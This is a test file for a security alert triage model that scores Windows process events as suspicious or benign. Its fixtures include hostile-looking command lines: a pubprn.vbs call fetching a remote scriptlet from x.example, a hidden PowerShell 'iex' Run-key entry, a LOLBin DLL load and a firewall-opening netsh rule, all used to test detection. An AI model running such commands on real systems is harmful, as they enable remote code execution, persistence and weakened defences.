import { describe, expect, test } from 'vitest';
import { assess } from '../../../src/model/offline/assess.js';
import { scoreFeatures } from '../../../src/model/offline/features.js';
import { observe } from '../../../src/model/offline/results.js';
import type { Transcript } from '../../../src/model/offline/transcript.js';
import type { AlertFacts } from '../../../src/model/offline/types.js';
import { alertFacts } from './harness.js';

const system32 = 'C:\\Windows\\System32';

function alertOf(fields: Partial<AlertFacts>): AlertFacts {
  return alertFacts(fields, 'alert');
}

/** Features and verdict from the alert's own fields alone (no tool answered). */
function judge(fields: Partial<AlertFacts>) {
  const alert = alertOf(fields);
  const observations = observe(alert, { exchanges: [], submissions: [] } as unknown as Transcript);
  const features = scoreFeatures(alert, observations);
  const byId = new Map(features.map((feature) => [feature.id, feature.weight]));
  return { byId, verdict: assess(alert, observations, features, new Set(), 0).verdict };
}

describe('offline analyst reasoning from the alerted event', () => {
  test('the service control manager starting PowerShell is a service running a command', () => {
    const judged = judge({
      image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      commandLine: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -c "write-host hi"`,
      parentImage: `${system32}\\services.exe`,
    });
    expect(judged.byId.get('service-spawned-shell')).toBeGreaterThan(0);
    expect(judged.verdict).not.toBe('benign');
    expect(
      judge({ image: `${system32}\\svchost.exe`, parentImage: `${system32}\\services.exe` }).byId.has(
        'service-spawned-shell',
      ),
    ).toBe(false);
  });

  test("a script shipped with Windows starting its helpers is not delivery; a user's script is", () => {
    const os = judge({
      image: `${system32}\\cmd.exe`,
      commandLine: 'cmd /c reg export HKLM\\SYSTEM\\x out.txt',
      parentImage: `${system32}\\cscript.exe`,
      parentCommandLine: `${system32}\\cscript.exe ${system32}\\gatherNetworkInfo.vbs`,
    });
    expect(os.byId.has('delivery-lineage')).toBe(false);
    expect(os.verdict).toBe('benign');
    const dropped = judge({
      image: `${system32}\\cmd.exe`,
      commandLine: 'cmd /c whoami',
      parentImage: `${system32}\\cscript.exe`,
      parentCommandLine: `${system32}\\cscript.exe C:\\Users\\bob\\AppData\\Local\\Temp\\a.vbs`,
    });
    expect(dropped.byId.get('delivery-lineage')).toBeGreaterThan(0);
    // An argument beyond the OS script (a moniker, a URL) keeps it suspect.
    const proxied = judge({
      image: `${system32}\\cmd.exe`,
      parentImage: `${system32}\\cscript.exe`,
      parentCommandLine: `${system32}\\cscript.exe ${system32}\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://x.example/a.sct`,
    });
    expect(proxied.byId.get('delivery-lineage')).toBeGreaterThan(0);
  });

  test('an autostart entry that runs a shell or a user-writable file weighs more than one that runs an installed program', () => {
    const runKey = 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
    const shell = judge({
      image: `${system32}\\reg.exe`,
      targetObject: runKey,
      details: 'powershell.exe -w hidden -c "iex $x"',
    });
    const installed = judge({
      image: 'C:\\Program Files\\Vendor\\agent.exe',
      targetObject: runKey,
      details: '"C:\\Program Files\\Vendor\\agent.exe" /background',
    });
    expect(shell.byId.get('persistence')).toBeGreaterThan(installed.byId.get('persistence') ?? 0);
    expect(shell.verdict).not.toBe('benign');
    expect(installed.verdict).toBe('benign');
  });

  test('LSASS opened by a Windows session manager is routine; by a program from a user folder it is not', () => {
    const lsass = `${system32}\\lsass.exe`;
    expect(
      judge({ image: `${system32}\\wininit.exe`, targetImage: lsass }).byId.has('credential-access'),
    ).toBe(false);
    // The same name outside System32 is a masquerade, not the session manager.
    expect(
      judge({ image: 'C:\\Users\\Public\\wininit.exe', targetImage: lsass }).byId.has('credential-access'),
    ).toBe(true);
    expect(judge({ image: 'C:\\Users\\bob\\Desktop\\tool.exe', targetImage: lsass }).verdict).not.toBe(
      'benign',
    );
  });

  test('opening the firewall from a console is worth a human look', () => {
    const judged = judge({
      image: `${system32}\\netsh.exe`,
      commandLine: 'netsh advfirewall firewall add rule name=x dir=in action=allow localport=450',
      parentImage: `${system32}\\cmd.exe`,
    });
    expect(judged.byId.get('defense-tampering')).toBeGreaterThan(0);
    expect(judged.verdict).not.toBe('benign');
  });

  test('a LOLBin registering a provider DLL from a user-writable folder is proxy execution', () => {
    const judged = judge({
      image: 'C:\\Windows\\SysWOW64\\Register-CimProvider.exe',
      commandLine: '"C:\\Windows\\SysWow64\\Register-CimProvider.exe" -Path C:\\ProgramData\\x.dll',
      parentImage: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    });
    expect(judged.byId.get('proxy-execution')).toBeGreaterThan(0);
    expect(judged.verdict).not.toBe('benign');
  });
});
